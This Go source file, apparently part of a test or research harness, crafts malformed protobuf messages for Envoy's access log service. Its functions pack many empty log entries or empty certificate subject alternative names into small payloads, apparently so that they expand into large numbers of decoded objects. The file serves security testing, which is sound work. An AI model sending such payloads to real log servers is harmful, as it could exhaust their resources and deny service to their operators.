// SPDX-License-Identifier: Apache-2.0

package attack

import (
	accesslogv3 "github.com/envoyproxy/go-control-plane/envoy/data/accesslog/v3"
	"google.golang.org/protobuf/encoding/protowire"
	"google.golang.org/protobuf/proto"
)

// Fields of the messages of Envoy's access log service.
const (
	httpLogs         = 2  // of StreamAccessLogsMessage
	logEntry         = 1  // of HTTPAccessLogEntries
	commonProperties = 1  // of HTTPAccessLogEntry
	tlsProperties    = 4  // of AccessLogCommon
	localCertificate = 4  // of TLSProperties
	subjectAltName   = 1  // of CertificateProperties
	accessLogType    = 33 // of AccessLogCommon
)

// EmptyEntries is a message of about size bytes, of which each second one makes
// an entry.
func EmptyEntries(size int) []byte { return field(httpLogs, empties(logEntry, size)) }

// EmptySANs is a message with one entry, of a connection, whose certificate has
// names that are empty, about size bytes of them.
func EmptySANs(size int) []byte {
	common := field(tlsProperties, field(localCertificate, empties(subjectAltName, size)))
	common = protowire.AppendTag(common, accessLogType, protowire.VarintType)
	common = protowire.AppendVarint(common, uint64(accesslogv3.AccessLogType_TcpConnectionEnd))
	return field(httpLogs, field(logEntry, field(commonProperties, common)))
}

// Append puts messages of the same type one after another, which is how protobuf
// merges them.
func Append(message proto.Message, more ...[]byte) ([]byte, error) {
	b, err := proto.Marshal(message)
	for _, m := range more {
		b = append(b, m...)
	}
	return b, err
}
